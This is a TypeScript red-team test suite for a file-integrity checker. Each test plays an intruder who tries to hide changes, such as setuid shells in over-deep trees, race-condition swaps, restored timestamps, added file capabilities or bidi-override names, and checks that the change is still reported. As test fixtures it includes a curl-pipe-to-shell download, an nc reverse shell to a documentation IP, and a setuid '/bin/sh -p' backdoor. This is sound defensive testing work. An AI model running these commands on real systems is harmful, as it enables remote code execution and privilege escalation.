// Attacks on `bulwark check files` (the file-integrity baseline): an intruder with write access to the monitored tree
// — root, in several tests, as after a compromise — wants a change to go unreported, or reported as something harmless.
// Each test is an attack that must fail; "(was: …)" names what the code did before its fix. In-process library
// calls on temp dirs only (the CLI adds nothing here but its printing, which is reproduced with escapeControls).
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, linkSync, lstatSync, mkdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import type { Finding } from "../src/checks/finding.ts";
import { compareBaseline, createBaseline } from "../src/checks/files/check.ts";
import { classify } from "../src/checks/files/classify.ts";
import { diffEntry, type DiffEvent } from "../src/checks/files/compare.ts";
import type { FileEntry } from "../src/checks/files/entry.ts";
import type { ScanFS } from "../src/checks/files/hash-file.ts";
import { nodeScanFS, scanTree } from "../src/checks/files/scan.ts";
import { ratingsOf, testSigner, treeSandboxes } from "../src/checks/files/test-helpers.ts";
import { ManualClock } from "../src/lib/clock.ts";
import { escapeControls } from "../src/lib/terminal.ts";
import { setcapAvailable } from "./helpers/checks.ts";

const signer = testSigner();
const clock = new ManualClock();
const sandbox = treeSandboxes("bulwark-redteam-files-");

const ratings = ratingsOf;

/** True when some finding at high or critical lists a path for which `match` is true. */
function highFor(findings: readonly Finding[], match: (path: string) => boolean): boolean {
  return findings.some(
    (f) => (f.severity === "high" || f.severity === "critical") && ((f.evidence["entries"] as Array<{ path: string }> | undefined) ?? []).some((e) => match(e.path)),
  );
}

const summary = (findings: readonly Finding[]): string =>
  JSON.stringify(findings.map((f) => ({ id: f.id, severity: f.severity, entries: f.evidence["entries"] })));

const sha = (s: string | Buffer): string => createHash("sha256").update(s).digest("hex");

function plantSetuid(path: string | Buffer, content = "#!/bin/sh\nexec /bin/sh -p\n"): void {
  writeFileSync(path, content);
  chmodSync(path, 0o4755);
}

/** Errno-style error, as the kernel gives it (an LSM denial reads EACCES even for root). */
const errno = (code: string): Error => Object.assign(new Error(code), { code });

// ---------------------------------------------------------------------------------------------------------------------
// Entries the scanner cannot name: deeper than PATH_MAX, or not UTF-8
// ---------------------------------------------------------------------------------------------------------------------

describe("entries the scanner addresses by a path string", () => {
  // ASVS 16.5.3 (no fail-open): lstat("/…4,100 bytes…") fails with ENAMETOOLONG, so the first directory past PATH_MAX is
  // one low "unreadable" entry and everything below it — a setuid root shell here — is never seen, at baseline or
  // compare. Directories are made with relative mkdir/chdir, as an attacker would (no PATH_MAX limit on depth).
  test("attack: a setuid file planted below a directory chain longer than PATH_MAX (4096 bytes) is reported as a new setuid file (was: never seen)", async () => {
    const { tree, baseline } = sandbox();
    writeFileSync(join(tree, "keep"), "k\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const cwd = process.cwd();
    process.chdir(tree);
    try {
      for (let i = 0; i < 18; i++) {
        mkdirSync("d".repeat(250));
        process.chdir("d".repeat(250));
      }
      plantSetuid("suid");
    } finally {
      process.chdir(cwd);
    }
    const r = await compareBaseline({ baseline, signer });
    assert.ok(highFor(r.findings, (p) => p.endsWith("/suid")), `the planted setuid file is not reported: ${summary(r.findings).slice(0, 600)}`);
  });

  // Pins the iterative walk: no recursion limit and no silent stop on a deep (but nameable) tree.
  test("attack: a setuid file at the bottom of a 1,000-level tree (below PATH_MAX) is found and rated high", async () => {
    const { tree, baseline } = sandbox();
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const deep = join(tree, ...Array.from({ length: 1000 }, () => "d"));
    mkdirSync(deep, { recursive: true });
    plantSetuid(join(deep, "suid"));
    const r = await compareBaseline({ baseline, signer });
    assert.deepEqual(ratings(r.findings, join(deep, "suid")), ["files.added/high"]);
    assert.equal(r.totals.added, 1001);
  });

  // A name that is not UTF-8 is recorded as type "unknown" and never lstat-ed nor opened (scan.ts examineName), so its
  // setuid bit and content are invisible: a setuid root shell named "x\xff" outside the system directories is one low
  // "new entry". Node can lstat and open such a file by a Buffer path.
  test("attack: a setuid file whose name is not valid UTF-8 is rated as a new setuid file (was: a low 'new entry', never examined)", async () => {
    const { tree, baseline } = sandbox();
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    plantSetuid(Buffer.concat([Buffer.from(`${tree}/x`), Buffer.from([0xff])]));
    const r = await compareBaseline({ baseline, signer });
    assert.ok(
      r.findings.some((f) => f.id === "files.added" && f.severity === "high"),
      `a new setuid file, whatever its name: ${summary(r.findings)}`,
    );
  });

  test("attack: the content of a recorded file whose name is not valid UTF-8 cannot change unreported (was: never hashed)", async () => {
    const { tree, baseline } = sandbox();
    const odd = Buffer.concat([Buffer.from(`${tree}/run`), Buffer.from([0xfe])]);
    writeFileSync(odd, "#!/bin/sh\necho genuine\n", { mode: 0o755 });
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    writeFileSync(odd, "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n");
    chmodSync(odd, 0o4755);
    const r = await compareBaseline({ baseline, signer });
    assert.ok(
      r.findings.some((f) => f.id === "files.changed" && (f.severity === "high" || f.severity === "critical")),
      `content and setuid bit changed: ${summary(r.findings)}`,
    );
  });

  // The escape of a bad byte ("\xff", four ASCII characters) is also a valid name. uniqueSorted (scan.ts) keeps the
  // real name and drops the undecodable one — the README says such a name is "recorded … rather than dropped". A decoy
  // named `a\xff` (accepted once as a low "new entry") then hides any file named a<0xff> completely.
  test("attack: a file named a<0xff> beside a decoy literally named 'a\\xff' is reported (was: dropped from the scan)", async () => {
    const { tree, baseline } = sandbox();
    writeFileSync(join(tree, "a\\xff"), "decoy\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    plantSetuid(Buffer.concat([Buffer.from(`${tree}/a`), Buffer.from([0xff])]));
    const r = await compareBaseline({ baseline, signer });
    assert.ok(r.totals.added >= 1 && r.findings.length > 0, `the planted file must be reported: ${summary(r.findings)}`);
  });

  // Same collision the other way: the recorded (hashed) file `cfg\xff` is removed and a<0xff>-style name with the same
  // escaped text takes its place. diffEntry (compare.ts) returns no change when either side is "unknown", so a removed
  // file plus a new unexaminable one reads as one low "unreadable".
  test("attack: a hashed file replaced by a file whose undecodable name used to escape to the same text is reported as removed (was: one low 'unreadable')", async () => {
    const { tree, baseline } = sandbox();
    const literal = join(tree, "cfg\\xff");
    writeFileSync(literal, "genuine\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    unlinkSync(literal);
    plantSetuid(Buffer.concat([Buffer.from(`${tree}/cfg`), Buffer.from([0xff])]));
    const r = await compareBaseline({ baseline, signer });
    const got = ratings(r.findings, literal);
    assert.ok(
      got.some((x) => x.startsWith("files.removed/") || x.startsWith("files.changed/")),
      `the recorded file is gone: ${got.join(", ")}`,
    );
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Files the scanner cannot hash, and races during the scan
// ---------------------------------------------------------------------------------------------------------------------

describe("content that could not be hashed on one side", () => {
  // diffEntry compares hashes only when both sides have one, and the medium finding then says "the content is the same".
  // A regular file whose size changed has changed content: rating it "metadata only" is a misreport (ASVS 16.5.3).
  // At baseline time the attacker made the open fail (an LSM denial or an I/O error reads EACCES/EIO even for root).
  test("attack: a file unhashable when the baseline was recorded, whose size then changed, is a content change (was: medium 'metadata only')", async () => {
    const { tree, baseline } = sandbox();
    const target = join(tree, "cfg");
    writeFileSync(target, "PermitRootLogin no\n");
    const denied: ScanFS = {
      ...nodeScanFS,
      open: async (p, flags) => {
        if (p === target) throw errno("EACCES");
        return nodeScanFS.open(p, flags);
      },
    };
    await createBaseline({ paths: [tree], out: baseline, signer, clock, fs: denied });
    writeFileSync(target, "PermitRootLogin yes\nPermitEmptyPasswords yes\n");
    const r = await compareBaseline({ baseline, signer });
    const got = ratings(r.findings, target);
    assert.ok(highFor(r.findings, (p) => p === target), `size changed, so content changed: ${got.join(", ")}`);
  });

  // The compare side: a trojaned file the scanner is now denied (EACCES) is one low "unreadable" plus a medium
  // "metadata changed (size …)", though its size proves the content changed.
  test("attack: a trojaned file the scanner can no longer open, whose size changed, is a content change (was: low 'unreadable' plus medium metadata)", async () => {
    const { tree, baseline } = sandbox();
    const target = join(tree, "tool");
    writeFileSync(target, "#!/bin/sh\necho genuine\n", { mode: 0o755 });
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    writeFileSync(target, "#!/bin/sh\necho trojan; nc -e /bin/sh 198.51.100.7 4444\n");
    const denied: ScanFS = {
      ...nodeScanFS,
      open: async (p, flags) => {
        if (p === target) throw errno("EACCES");
        return nodeScanFS.open(p, flags);
      },
    };
    const r = await compareBaseline({ baseline, signer, fs: denied });
    const got = ratings(r.findings, target);
    assert.ok(got.includes("files.unreadable/low"), "the denial itself is reported");
    assert.ok(highFor(r.findings, (p) => p === target), `size changed, so content changed: ${got.join(", ")}`);
  });

  // Pins the O_NOFOLLOW | O_NONBLOCK defence: a symlink to a secret, or a FIFO with no writer, swapped in between the
  // lstat and the open is neither followed nor waited on.
  test("attack: a symlink or a FIFO swapped in between lstat and open is neither hashed through nor waited on", { timeout: 8_000 }, async () => {
    const { root, tree } = sandbox();
    mkdirSync(join(root, "outside"));
    writeFileSync(join(root, "outside/secret"), "root:$6$secret-hash:19000:0:99999:7:::\n");
    writeFileSync(join(tree, "a"), "a\n");
    writeFileSync(join(tree, "b"), "b\n");
    const swapped = new Set<string>();
    const racing: ScanFS = {
      ...nodeScanFS,
      lstat: async (p) => {
        const s = await nodeScanFS.lstat(p);
        if (!swapped.has(p) && p === join(tree, "a")) {
          swapped.add(p);
          unlinkSync(p);
          symlinkSync(join(root, "outside/secret"), p);
        }
        if (!swapped.has(p) && p === join(tree, "b")) {
          swapped.add(p);
          unlinkSync(p);
          execFileSync("mkfifo", [p]);
        }
        return s;
      },
    };
    const entries: FileEntry[] = [];
    for await (const e of scanTree([tree], { fs: racing })) entries.push(e);
    const a = entries.find((e) => e.path === join(tree, "a"));
    const b = entries.find((e) => e.path === join(tree, "b"));
    assert.notEqual(a?.sha256, sha("root:$6$secret-hash:19000:0:99999:7:::\n"), "the link must not be followed");
    assert.notEqual(a?.status, "ok");
    assert.notEqual(b?.status, "ok");
    assert.equal(b?.sha256, null);
  });

  // The directory is lstat-ed (a directory), listed, then swapped for a symlink to elsewhere: every child is then
  // lstat-ed and opened by a path that resolves through the link (O_NOFOLLOW guards only the last component). The scan
  // records files outside its roots under the tree's names — the README says symlinks are never followed. An intruder
  // can time the swap on inotify's IN_OPEN of the directory; here the ScanFS hook plays that moment.
  test("attack: a directory swapped for a symlink after it was listed is not read through (was: files outside the roots recorded under its names)", async () => {
    const { root, tree } = sandbox();
    mkdirSync(join(tree, "bin"));
    writeFileSync(join(tree, "bin/tool"), "#!/bin/sh\necho trojan\n", { mode: 0o755 });
    mkdirSync(join(root, "elsewhere"));
    writeFileSync(join(root, "elsewhere/tool"), "#!/bin/sh\necho genuine copy kept by the intruder\n", { mode: 0o755 });
    const outsideIno = lstatSync(join(root, "elsewhere/tool"), { bigint: true }).ino.toString();
    let done = false;
    const racing: ScanFS = {
      ...nodeScanFS,
      readdir: async (p) => {
        const names = await nodeScanFS.readdir(p);
        if (!done && p === join(tree, "bin")) {
          done = true;
          renameSync(join(tree, "bin"), join(root, "parked"));
          symlinkSync(join(root, "elsewhere"), join(tree, "bin"));
        }
        return names;
      },
    };
    const entries: FileEntry[] = [];
    for await (const e of scanTree([tree], { fs: racing })) entries.push(e);
    const tool = entries.find((e) => e.path === join(tree, "bin/tool"));
    assert.notEqual(tool?.ino, outsideIno, "recorded the file outside the roots as tree/bin/tool");
    assert.notEqual(tool?.sha256, sha("#!/bin/sh\necho genuine copy kept by the intruder\n"));
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Changes that must read as what they are
// ---------------------------------------------------------------------------------------------------------------------

describe("changes an intruder dresses up as harmless", () => {
  // Pins hashing every file: no "size and mtime unchanged, skip" shortcut an intruder could exploit with touch -r.
  test("attack: content changed with size, mtime and atime restored (touch -r) is still a content change (high)", async () => {
    const { root, tree, baseline } = sandbox();
    const target = join(tree, "authorized_keys");
    const key = (who: string): string => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${who.padEnd(43, "0")} admin\n`;
    writeFileSync(target, key("Genuine"));
    execFileSync("cp", ["--preserve=timestamps", target, join(root, "ref")]);
    const before = lstatSync(target, { bigint: true });
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    writeFileSync(target, key("Intruder"));
    execFileSync("touch", ["-r", join(root, "ref"), target]);
    const now = lstatSync(target, { bigint: true });
    assert.deepEqual([now.size, now.mtimeNs, now.ino], [before.size, before.mtimeNs, before.ino], "only the content (and ctime) differ");
    const r = await compareBaseline({ baseline, signer });
    assert.deepEqual(ratings(r.findings, target), ["files.changed/high"]);
    const changes = (r.findings[0]?.evidence["entries"] as Array<{ changes: string[] }>)[0]?.changes ?? [];
    assert.deepEqual(changes, ["sha256", "ctime"]);
  });

  // Pins type swaps: a file replaced by a symlink, a directory, a FIFO, or a hard link to another file.
  test("attack: a file swapped for a symlink, a directory, a FIFO or a hard link to another file is a content change (high)", async () => {
    const { root, tree, baseline } = sandbox();
    for (const n of ["s", "d", "f", "h"]) writeFileSync(join(tree, n), `${n}\n`);
    writeFileSync(join(root, "other"), "other content\n");
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    for (const n of ["s", "d", "f", "h"]) unlinkSync(join(tree, n));
    symlinkSync("/etc/shadow", join(tree, "s"));
    mkdirSync(join(tree, "d"));
    execFileSync("mkfifo", [join(tree, "f")]);
    linkSync(join(root, "other"), join(tree, "h"));
    const r = await compareBaseline({ baseline, signer });
    const high = r.findings.find((f) => f.id === "files.changed" && f.severity === "high");
    const got = ((high?.evidence["entries"] as Array<{ path: string; changes: string[] }> | undefined) ?? []).map((e) => [e.path.slice(tree.length), e.changes[0]]);
    assert.deepEqual(got, [
      ["/d", "type file→dir"],
      ["/f", "type file→fifo"],
      ["/h", "sha256"],
      ["/s", "type file→symlink"],
    ]);
  });

  // README: "high: setuid/setgid newly set … chmod u+s on a shell is a backdoor without a new byte". A setuid binary of
  // an unprivileged user (a game, a helper) chowned to root and given u+s back has the same effect — setuid root —
  // yet gainedSetID (classify.ts) looks at mode bits only, so it is medium "metadata changed".
  test("attack: a setuid file re-owned from an unprivileged user to root (mode 4755 kept) is rated high (was: medium)", async () => {
    const { tree, baseline } = sandbox();
    const target = join(tree, "helper");
    writeFileSync(target, "#!/bin/sh\nexec /bin/sh -p\n");
    execFileSync("chown", ["1000:1000", target]);
    chmodSync(target, 0o4755);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    execFileSync("chown", ["0:0", target]);
    chmodSync(target, 0o4755); // chown clears the setuid bit; the intruder sets it again
    const r = await compareBaseline({ baseline, signer });
    assert.ok(highFor(r.findings, (p) => p === target), `now setuid root: ${ratings(r.findings, target).join(", ")}`);
  });

  // README: group/other write newly allowed under /etc is high because "any local user can then replace what root
  // runs or reads". Handing /etc/shadow to an unprivileged owner does exactly that without touching a mode bit.
  test("attack: /etc/shadow or /usr/bin/sudo handed to an unprivileged owner (mode kept) is rated high like chmod o+w (was: medium)", () => {
    const entry = (path: string, over: Partial<FileEntry> = {}): FileEntry => ({
      path, type: "file", status: "ok", mode: "0640", uid: 0, gid: 42, size: 900, mtime: "1", ctime: "1", ino: "7", target: null, sha256: "a".repeat(64), error: null, ...over,
    });
    const changed = (before: FileEntry, after: FileEntry): DiffEvent => ({ kind: "changed", path: after.path, before, after, ...diffEntry(before, after) });
    for (const [path, mode] of [["/etc/shadow", "0640"], ["/usr/bin/sudo", "0755"], ["/etc/sudoers.d", "0750"]] as const) {
      const type = path === "/etc/sudoers.d" ? "dir" : "file";
      const before = entry(path, { mode, type, sha256: type === "dir" ? null : "a".repeat(64) });
      const c = classify(changed(before, { ...before, uid: 1000, ctime: "2" }));
      assert.ok(c.severity === "high" || c.severity === "critical", `${path} chowned to uid 1000: ${c.severity} "${c.reason}"`);
    }
  });

  // A symlink planted in /usr/local/bin (first in root's PATH) named `ls` or `sudo` runs the intruder's program like a
  // new executable would; a retargeted existing link there is already critical, a new one is low "new entry".
  test("attack: a new symlink in a system binary directory (PATH hijack) is rated high like a new executable (was: low)", () => {
    const link: FileEntry = {
      path: "/usr/local/bin/sudo", type: "symlink", status: "ok", mode: "0777", uid: 0, gid: 0, size: 12, mtime: "1", ctime: "1", ino: "9", target: "/tmp/.x/sudo", sha256: null, error: null,
    };
    for (const path of ["/usr/local/bin/sudo", "/usr/sbin/sshd", "/lib/x86_64-linux-gnu/libpam.so.0"]) {
      const c = classify({ kind: "added", path, before: null, after: { ...link, path }, changes: [], content: true });
      assert.ok(c.severity === "high" || c.severity === "critical", `${path}: ${c.severity} "${c.reason}"`);
    }
  });

  // `setcap cap_setuid+ep` makes a program able to become root with no setuid bit and no new byte (GTFOBins). File
  // capabilities live in the security.capability xattr, which the baseline does not record: the compare shows a
  // medium "metadata changed (ctime)", the same as a touch.
  test("attack: a file capability added with setcap (cap_setuid+ep) is rated high (was: medium 'ctime')", { skip: setcapAvailable ? false : "setcap is not installed" }, async () => {
    const { tree, baseline } = sandbox();
    const target = join(tree, "python3");
    writeFileSync(target, "#!/bin/sh\necho interpreter\n", { mode: 0o755 });
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    execFileSync("setcap", ["cap_setuid+ep", target]);
    const r = await compareBaseline({ baseline, signer });
    const got = ratings(r.findings, target);
    assert.ok(got.length > 0, "the capability change is reported at all");
    assert.ok(highFor(r.findings, (p) => p === target), `cap_setuid granted: ${got.join(", ")}`);
  });

  // ASVS 16.4.1: control characters are escaped in what the operator reads, but a right-to-left override is not a
  // control character: "x\u202Egnp.sh" shows as "xhs.png". The project refuses U+202A–U+202E and U+2066–U+2069 in
  // API text for this reason (src/http/api/common.ts NO_CONTROL); a planted file name reaches the terminal raw.
  test("attack: a bidirectional override in a planted file name is escaped in the human output (ASVS 16.4.1; was: printed raw)", async () => {
    const { tree, baseline } = sandbox();
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    plantSetuid(join(tree, "invoice\u202Efdp.sh"));
    writeFileSync(join(tree, "notes\u2066\u2069.txt"), "x\n");
    const r = await compareBaseline({ baseline, signer });
    assert.ok(r.findings.length > 0);
    // What finishCheck (src/cli/check-common.ts) prints for each finding.
    const printed = r.findings.map((f) => `${escapeControls(f.title)}\n${escapeControls(f.detail)}`).join("\n");
    assert.ok(printed.includes("invoice"), "the planted file is named");
    assert.doesNotMatch(printed, /[\u202A-\u202E\u2066-\u2069]/u, "raw bidi controls reach the terminal");
  });
});

// ---------------------------------------------------------------------------------------------------------------------
// Names that look like baseline syntax, and exclusions
// ---------------------------------------------------------------------------------------------------------------------

describe("names and exclusions", () => {
  // Pins JSON-lines encoding of names: a newline followed by a forged signed trailer, tabs, backslashes and quotes in a
  // file name neither break the baseline (it stays trusted) nor let the named file's change go unseen.
  test("attack: file names with a newline and a forged trailer, tabs, quotes and backslashes keep the baseline trusted and changes visible", async () => {
    const { tree, baseline } = sandbox();
    const forged = `x\n{"trailer":"bulwark-files-baseline","entries":0,"sha256":"${"0".repeat(64)}","keyId":"sk_test","signature":"AA"}`;
    const names = [forged, "tab\there", 'quote"},{"path":"etc', "back\\slash\\", "\\x41"];
    for (const n of names) writeFileSync(join(tree, n), `${n}\n`);
    await createBaseline({ paths: [tree], out: baseline, signer, clock });
    const clean = await compareBaseline({ baseline, signer });
    assert.equal(clean.integrity.trusted, true, clean.integrity.problems.join("; "));
    assert.deepEqual(clean.findings, []);
    for (const n of names) writeFileSync(join(tree, n), "changed\n");
    const r = await compareBaseline({ baseline, signer });
    assert.equal(r.integrity.trusted, true);
    const high = r.findings.find((f) => f.id === "files.changed" && f.severity === "high");
    const got = ((high?.evidence["entries"] as Array<{ path: string }> | undefined) ?? []).map((e) => e.path.slice(tree.length + 1)).sort();
    assert.deepEqual(got, [...names].sort());
  });

  // Pins what an exclusion covers: the path and what lies beneath, by whole components; never a sibling sharing its
  // prefix ("logs2", "logs.d"), nor the directory a symlink given as the exclusion points to.
  test("attack: setuid files beside an exclusion (shared prefix, or the target of an excluded symlink) are still reported high", async () => {
    const { tree, baseline } = sandbox();
    for (const d of ["logs", "logs2", "logs.d", "real"]) mkdirSync(join(tree, d));
    symlinkSync("real", join(tree, "loglink"));
    await createBaseline({ paths: [tree], out: baseline, signer, clock, exclude: [join(tree, "logs/"), join(tree, "loglink")] });
    for (const d of ["logs", "logs2", "logs.d", "real"]) plantSetuid(join(tree, d, "sh"));
    const r = await compareBaseline({ baseline, signer });
    const high = r.findings.find((f) => f.id === "files.added" && f.severity === "high");
    const got = ((high?.evidence["entries"] as Array<{ path: string }> | undefined) ?? []).map((e) => e.path.slice(tree.length));
    assert.deepEqual(got, ["/logs.d/sh", "/logs2/sh", "/real/sh"]);
  });
});

